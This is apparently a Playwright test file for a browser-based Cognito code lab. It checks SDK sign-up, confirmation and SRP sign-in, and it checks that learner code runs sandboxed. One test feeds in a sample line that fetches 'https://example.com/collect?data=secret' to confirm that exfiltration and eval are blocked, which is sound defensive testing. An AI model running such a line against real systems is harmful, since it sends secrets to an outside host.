import { readFile } from 'node:fs/promises';
import { expect, type Page } from '@playwright/test';
import { test } from '@playwright/test';
import { newestCodeFor, openTab, region } from './flowsSupport';
import { expectNoSeriousA11yViolations, recordForeignRequests, recordPageErrors } from './support';
import { openSandbox, stateActions } from './workspace-support';

// The Code lab: client code with the AWS SDK v3 and amazon-cognito-identity-js, run in a worker
// against the page's simulated pool; no request leaves for another host.

const SHOTS = '/tmp/code-lab-shots';
const lab = (page: Page) => page.locator('[data-area="code-lab"]');

async function openCodeLab(page: Page) {
  await openTab(page, 'Code lab');
  const panel = lab(page);
  await expect(panel.getByRole('heading', { name: 'Code lab' })).toBeVisible({ timeout: 20_000 });
  await expect(panel.locator('.monaco-editor textarea').first()).toBeAttached({ timeout: 20_000 });
  return panel;
}

/** Replaces the editor's text (one line, so Monaco's auto-closing does not interfere). */
async function setCode(page: Page, code: string) {
  await lab(page).locator('.monaco-editor .view-lines').first().click();
  await page.keyboard.press('ControlOrMeta+A');
  await page.keyboard.press('Delete');
  await page.keyboard.insertText(code);
}

async function run(page: Page) {
  const panel = lab(page);
  await panel.getByRole('button', { name: 'Run', exact: true }).click();
  await expect(panel.getByRole('button', { name: 'Run', exact: true })).toBeEnabled({ timeout: 60_000 });
}

const consoleOutput = (page: Page) => lab(page).getByRole('log', { name: 'Console output' });

test('the sign-up example runs with the real SDK in a worker: the call is in the API inspector, the user in Users; then confirm and SRP sign-in', async ({ page }) => {
  test.setTimeout(180_000);
  const foreign = recordForeignRequests(page);
  const errors = recordPageErrors(page);
  await openSandbox(page);
  const panel = await openCodeLab(page);
  await expect(panel.getByText(/^us-east-1_/)).toBeVisible();

  // The default example: SignUp with SignUpCommand.
  await run(page);
  await expect(panel.getByRole('status').filter({ hasText: /Finished in/ })).toBeVisible();
  await expect(consoleOutput(page)).toContainText('UserSub:');
  await expect(consoleOutput(page)).toContainText('confirmed: false');

  const calls = region(page, 'API calls');
  await expect(calls.getByRole('row', { name: /SignUp Success/ })).toBeVisible();

  await panel.scrollIntoViewIfNeeded();
  await page.screenshot({ path: `${SHOTS}/code-lab-light.png` });
  await page.emulateMedia({ colorScheme: 'dark' });
  await page.screenshot({ path: `${SHOTS}/code-lab-dark.png` });
  await page.emulateMedia({ colorScheme: 'light' });
  await expectNoSeriousA11yViolations(page);

  await openTab(page, 'Users');
  await expect(page.getByRole('row', { name: /^lab-learner UNCONFIRMED/ })).toBeVisible();

  // Running it again: the SDK throws UsernameExistsException with AWS's message.
  await openTab(page, 'Code lab');
  await run(page);
  await expect(panel.getByRole('alert')).toContainText('Uncaught UsernameExistsException: User already exists');

  // Confirm with the code from the inbox.
  const code = await newestCodeFor(page, 'lab-learner@example.com');
  await setCode(page, `import { CognitoIdentityProviderClient, ConfirmSignUpCommand } from '@aws-sdk/client-cognito-identity-provider'; const client = new CognitoIdentityProviderClient({ region: REGION }); await client.send(new ConfirmSignUpCommand({ ClientId: CLIENT_ID, Username: 'lab-learner', ConfirmationCode: '${code}' })); console.log('confirmed lab-learner');`);
  await run(page);
  await expect(consoleOutput(page)).toContainText('confirmed lab-learner');
  await expect(calls.getByRole('row', { name: /ConfirmSignUp Success/ })).toBeVisible();

  // SRP sign-in with amazon-cognito-identity-js, unmodified.
  await panel.getByLabel('Example').selectOption({ label: 'SRP sign-in (amazon-cognito-identity-js)' });
  await panel.getByRole('button', { name: 'Load example' }).click();
  await run(page);
  await expect(consoleOutput(page)).toContainText('Signed in with SRP', { timeout: 30_000 });
  await expect(consoleOutput(page)).toContainText('"cognito:username": "lab-learner"');
  await expect(calls.getByRole('row', { name: /RespondToAuthChallenge Success/ })).toBeVisible();

  expect(foreign).toEqual([]);
  expect(errors).toEqual([]);
});

test('the editor completes SDK commands; learner code has no network: fetch to another host and eval are refused; an endless loop is stopped', async ({ page }) => {
  test.setTimeout(120_000);
  const foreign = recordForeignRequests(page);
  const errors = recordPageErrors(page);
  await openSandbox(page);
  const panel = await openCodeLab(page);

  // The editor knows the SDK's commands and the injected constants.
  await setCode(page, "import { SignUpCommand } from '@aws-sdk/client-cognito-identity-provider'; const n: number = POOL_ID; new SignUpCommand({ Cli");
  await page.keyboard.press('Control+Space');
  await expect(page.locator('.suggest-widget').getByText('SignUpCommandInput.ClientId: string')).toBeVisible({ timeout: 20_000 });
  await page.keyboard.press('Escape');
  await expect(panel.getByText(/Type 'string' is not assignable to type 'number'/)).toBeVisible({ timeout: 20_000 });
  // A snippet without imports is still a module: top-level await is fine.
  await panel.getByLabel('Example').selectOption({ label: 'No network (raw fetch)' });
  await panel.getByRole('button', { name: 'Load example' }).click();
  await expect(panel.getByText('No problems found.')).toBeVisible({ timeout: 20_000 });

  await setCode(page, `try { await fetch('https://example.com/'); console.log('reached example.com'); } catch (e) { console.log('caught', String(e)); } try { eval('1'); } catch (e) { console.log('eval:', String(e)); } console.log(typeof XMLHttpRequest, typeof WebSocket, typeof indexedDB, typeof importScripts); await fetch('https://example.com/collect?data=secret');`);
  await run(page);
  const out = consoleOutput(page);
  await expect(out).toContainText('caught TypeError: Failed to fetch: Network access is blocked in the code lab');
  await expect(out).not.toContainText('reached example.com');
  await expect(out).toContainText('eval: EvalError: Code built from strings');
  await expect(out).toContainText('undefined undefined undefined undefined');
  await expect(panel.getByRole('alert')).toContainText('Uncaught TypeError: Failed to fetch: Network access is blocked');
  await panel.getByRole('heading', { name: 'Output' }).scrollIntoViewIfNeeded();
  await page.screenshot({ path: `${SHOTS}/code-lab-refused-light.png` });
  await page.emulateMedia({ colorScheme: 'dark' });
  await panel.getByRole('heading', { name: 'Code lab' }).scrollIntoViewIfNeeded();
  await page.screenshot({ path: `${SHOTS}/code-lab-top-dark.png` });
  await page.emulateMedia({ colorScheme: 'light' });

  // An endless loop: the page stays usable and Stop ends it.
  await setCode(page, 'console.log("looping"); while (true) {}');
  await panel.getByRole('button', { name: 'Run', exact: true }).click();
  await expect(out).toContainText('looping');
  await panel.getByRole('button', { name: 'Stop' }).click();
  await expect(panel.getByRole('status').filter({ hasText: /Stopped after/ })).toBeVisible();
  await openTab(page, 'Users');
  await expect(page.getByRole('tab', { name: 'Users', selected: true })).toBeVisible();

  expect(foreign).toEqual([]);
  expect(errors).toEqual([]);
});

test('the lab’s code travels with the sandbox: export, reset, change the code, import brings it back', async ({ page }, testInfo) => {
  test.setTimeout(120_000);
  const errors = recordPageErrors(page);
  await openSandbox(page);
  await openCodeLab(page);
  await setCode(page, "console.log('travels-with-the-export');");
  const editorText = lab(page).locator('.monaco-editor .view-lines').first();
  await expect(editorText).toContainText('travels-with-the-export');

  const downloading = page.waitForEvent('download');
  await stateActions(page).getByRole('button', { name: 'Export' }).click();
  const file = testInfo.outputPath('lab-state.json');
  await (await downloading).saveAs(file);
  const saved = JSON.parse(await readFile(file, 'utf8')) as { ui: { codeLab?: { code: string } } };
  expect(saved.ui.codeLab?.code).toBe("console.log('travels-with-the-export');");

  await stateActions(page).getByRole('button', { name: 'Reset' }).click();
  await expect(page.getByRole('status').filter({ hasText: 'Started again with a new demo pool' })).toBeVisible();
  await setCode(page, "console.log('written-after-the-reset');");
  await expect(editorText).toContainText('written-after-the-reset');

  await stateActions(page).getByLabel('Import…').setInputFiles(file);
  await expect(page.getByRole('status').filter({ hasText: 'Imported lab-state.json' })).toBeVisible();
  await expect(editorText).toContainText('travels-with-the-export');
  await expect(editorText).not.toContainText('written-after-the-reset');

  // The code is still there on the next visit.
  await page.reload();
  await openCodeLab(page);
  await expect(lab(page).locator('.monaco-editor .view-lines').first()).toContainText('travels-with-the-export');
  expect(errors).toEqual([]);
});
